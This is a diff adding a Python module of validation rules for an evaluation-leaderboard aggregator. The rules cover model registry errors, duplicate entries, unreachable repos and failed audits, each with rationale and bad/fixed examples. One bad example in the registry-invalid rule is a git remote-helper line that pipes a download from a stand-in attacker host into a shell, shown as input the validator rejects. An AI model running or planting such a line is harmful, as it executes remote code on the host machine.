@@ -1,0 +1,93 @@
+"""Rules ``evalledger aggregate`` reports under its own ids (the rule catalogue merges them).
+
+Entries that cannot become leaderboard rows are reported under lint's ids (``value-not-number``,
+``value-not-finite``, ``task-id-unknown``, ``value-out-of-bounds``, ``yaml-syntax``...): they are the
+same checks, so they are documented once, as lint rules. Only what exists because of aggregation
+-- the model registry, fetching model repos, auditing their history -- is defined here.
+"""
+from __future__ import annotations
+
+from evalledger.finding import ERROR, WARNING
+from evalledger.rules import Rule
+
+REGISTRY_INVALID = Rule("registry-invalid", ERROR, "a model registry line or entry cannot be used", """\
+Flags a line of the `--models` registry that is not `URL-or-path [ref] [model-id]` (too many
+fields, a model id with spaces), a URL with an unsupported scheme or a remote helper (`ext::`,
+`fd::`), an argument-like URL (`-…`), an invalid git ref name, and for a YAML registry an entry
+that is not a URL or a `{url, ref, model}` mapping, unknown keys, or a registry that cannot be
+read. The run stops (exit 2) before anything is fetched or written.
+
+Why it matters: silently skipping a line with a typo would drop that model's rows and commit
+their removal from the leaderboard; a remote helper or an option-like URL would let a registry
+line run commands on the machine that aggregates.
+
+Bad (`models.txt`):
+```text
+https://huggingface.co/org/model main org/model extra-field
+ext::sh -c "curl evil.example | sh"
+```
+Fixed:
+```text
+https://huggingface.co/org/model  main  org/model
+```""", command="aggregate")
+
+REGISTRY_DUPLICATE = Rule("registry-duplicate", WARNING, "a model repo is listed twice in the registry", """\
+Flags a registry entry with the same repo, ref and model id as an earlier one (across all
+`--models` files); it is read once.
+
+Why it matters: usually a merge leftover or a copy-paste; when the second line was meant to
+differ (another ref, another model id) the intended source is missing from the board.
+
+Bad:
+```text
+https://huggingface.co/org/model  -  org/model
+https://huggingface.co/org/model  -  org/model
+```
+Fixed (the second line was meant to pin a release branch):
+```text
+https://huggingface.co/org/model  -        org/model
+https://huggingface.co/org/model  release  org/model-release
+```""", command="aggregate")
+
+MODEL_REPO_UNREACHABLE = Rule("model-repo-unreachable", WARNING,
+                              "a model repo could not be fetched; its last known rows are kept, marked stale", """\
+Flags a model repo of the registry that could not be fetched this run: the host is down, the repo
+was moved, deleted or made private, the ref no longer exists, or the fetch timed out. The other
+repos are aggregated as usual. The repo's rows from the previous tables (the committed
+`candidates` table) are kept unchanged with `stale: true`, and compete as they did when last
+read, until the repo can be fetched again or is removed from the registry; `--drop-unreachable`
+leaves them out instead. `--strict` turns this warning into exit code 1.
+
+Why it matters: without the mark, a short outage of one host would commit the removal of that
+model's scores and the next run would add them back: churn, and a history that says the scores
+were withdrawn when they were not. A row that stays stale for long points at a registry entry
+that needs fixing.
+
+Bad (`models.txt`, the repo was renamed on the Hub):
+```text
+https://huggingface.co/old-org/model  -  old-org/model
+```
+Fixed:
+```text
+https://huggingface.co/new-org/model  -  new-org/model
+```""", command="aggregate")
+
+AUDIT_UNAVAILABLE = Rule("audit-unavailable", WARNING, "a model repo's result history could not be audited", """\
+Flags a model repo whose history of `.eval_results` could not be fetched or judged by
+`aggregate --audit` (fetch error, timeout, an error of the audit itself); it is a row of the
+`flags` table. The repo's leaderboard rows are kept, without audit marks.
+
+Why it matters: a row without flags normally means its history was checked and found clean; for
+this repo it means nothing was checked, and readers of the board should know the difference.
+
+Bad (a model repo with a long history does not clone in 20 seconds):
+```yaml
+- run: evalledger aggregate --models models.txt --audit --timeout 20
+```
+Fixed:
+```yaml
+- run: evalledger aggregate --models models.txt --audit --timeout 600
+```""", command="aggregate")
+
+RULES: dict[str, Rule] = {rule.id: rule for rule in (REGISTRY_INVALID, REGISTRY_DUPLICATE,
+                                                      MODEL_REPO_UNREACHABLE, AUDIT_UNAVAILABLE)}
